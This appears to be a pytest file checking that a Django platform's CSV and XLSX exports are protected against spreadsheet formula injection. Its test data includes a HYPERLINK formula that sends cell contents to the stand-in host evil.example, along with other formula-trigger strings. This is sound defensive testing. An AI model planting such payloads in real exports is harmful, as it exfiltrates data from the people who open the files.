"""Issue 10, point 1: every CSV and XLSX the platform hands out is safe in a spreadsheet (OWASP CSV
injection). Names people typed (enterprises, institutions, products, indicators) go out through
each export page, and every cell comes back inert: CSV text starts with a quote, XLSX cells are
strings (never formulas), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from kechuang.accounts.choices import OrganizationKind as K
from kechuang.enterprises.tests.factories import load, record, regulator
from kechuang.marketplace import services as ms
from kechuang.marketplace.tests.factories import enterprise, institution, loan_product
from kechuang.targets.tests.factories import small_plan

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
#: What the brief names; the import validator strips the blanks off "\tcmd", so enterprise names
#: (which only arrive through validated imports) use the first three.
HOSTILE = [HYPERLINK, "@SUM(1)", "-2+3", "\tcmd"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _workbook_cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _assert_inert_xlsx(content: bytes, names: list[str]) -> None:
    """No cell is a formula; each name is there as a string cell holding the literal text."""
    cells = list(_workbook_cells(content))
    formulas = [(title, cell.coordinate, cell.value) for title, cell in cells if cell.data_type == "f"]
    assert formulas == []
    for name in names:
        found = [cell for _title, cell in cells if cell.value == name]
        assert found, f"{name!r} is not in the workbook"
        assert {cell.data_type for cell in found} == {"s"}
    armed = [cell.coordinate for _t, cell in cells
             if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS) and not cell.quotePrefix]
    assert armed == []


def test_enterprise_export_csv_and_xlsx_are_inert():
    # given enterprises whose names would run as formulas, and a regulator who may export
    names = HOSTILE[:3]
    load([record(i + 1, name=name) for i, name in enumerate(names)])
    client = _client(regulator("city"))
    # when the regulator exports them as CSV
    resp = client.get("/ingest/export/?format=csv&section=profile")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
    column = rows[0].index("企业名称")
    # then every name cell starts with a quote followed by the literal name
    assert sorted(r[column] for r in rows[1:]) == sorted("'" + n for n in names)
    assert all(not cell.startswith(TRIGGERS) for r in rows for cell in r)
    # and as XLSX every name is a string cell, never a formula
    resp = client.get("/ingest/export/?format=xlsx")
    assert resp.status_code == 200
    _assert_inert_xlsx(resp.content, names)


def test_marketplace_metrics_workbook_is_inert():
    # given banks and products named like formulas, each with a request grabbed in the period
    reg_org, reg = institution(K.REGULATOR, "金融局")
    for n, name in enumerate(HOSTILE, start=1):
        bank_org, bank_user = institution(K.BANK, name)
        product = loan_product(bank_org, bank_user, name=f"{name}贷" if name.startswith("\t") else name)
        ent, eu = enterprise(n)
        demand = ms.demand_post(enterprise=ent, kind="debt", amount="1000000", term_months=12, purpose="rd",
                                actor=eu)
        ms.demand_grab(demand=demand, product=product, actor=bank_user)
    # when the regulator downloads the metrics workbook
    resp = _client(reg).get("/marketplace/metrics.xlsx")
    assert resp.status_code == 200
    # then the institution and product names are inert strings and the figures numbers
    _assert_inert_xlsx(resp.content, HOSTILE)
    wb = load_workbook(io.BytesIO(resp.content))
    by_bank = {r[0].value: r for r in wb["按机构"].iter_rows(min_row=2)}
    assert set(by_bank) == set(HOSTILE)
    assert {(r[1].data_type, r[1].value) for r in by_bank.values()} == {("n", 1)}


def test_rating_run_export_is_inert():
    from kechuang.enterprises.models import Enterprise
    from kechuang.rating.models import RatingResult
    from kechuang.rating.services import rating_run_create, rating_run_execute
    from kechuang.rating.tests.factories import AS_OF, champion_model

    # given a rating run of the city
    model, admin = champion_model(300)
    run = rating_run_execute(run=rating_run_create(as_of=AS_OF, region_code="370100", actor=admin),
                             actor=admin)
    # and three rated enterprises whose names (as the summary column holds them) would run as formulas
    top = list(RatingResult.objects.filter(run=run).order_by("-pd", "enterprise_id")[:3])
    names = HOSTILE[:3]
    for result, name in zip(top, names, strict=True):
        Enterprise.objects.filter(pk=result.enterprise_id).update(name=name)
    # when the run is exported
    resp = _client(admin).get(f"/rating/runs/{run.pk}/export.xlsx")
    assert resp.status_code == 200
    # then the names are inert strings and PD and score stay numbers
    _assert_inert_xlsx(resp.content, names)
    wb = load_workbook(io.BytesIO(resp.content))
    first = next(wb["评级结果"].iter_rows(min_row=3, max_row=3))
    assert (first[1].value, first[4].data_type, first[5].data_type) == (names[0], "n", "n")


def test_targets_cockpit_workbook_is_inert():
    # given a plan whose indicators carry names that would run as formulas
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["地区", "规划", "指标", "单位", "年份", "数值", "类型"])
    names = [HYPERLINK, "@SUM(1)", "-2+3"]
    for name in names:
        writer.writerow(["济南市", "测试规划", name, "亿元", 2025, 100, "目标"])
        writer.writerow(["济南市", "测试规划", name, "亿元", 2020, 50, "基期"])
        writer.writerow(["济南市", "测试规划", name, "亿元", 2022, -3, "实际"])
    small_plan(indicators=out.getvalue())
    # when the regulator exports the cockpit
    resp = _client(regulator("city")).get("/targets/cockpit/?as_of=2022&format=xlsx")
    assert resp.status_code == 200
    # then the indicator names are inert strings and the negative actual a number
    _assert_inert_xlsx(resp.content, names)
    wb = load_workbook(io.BytesIO(resp.content))
    rows = {r[1].value: r for r in wb["目标与实际"].iter_rows(min_row=2) if r[1].value in names}
    assert {(r[7].data_type, r[7].value) for r in rows.values()} == {("n", -3)}
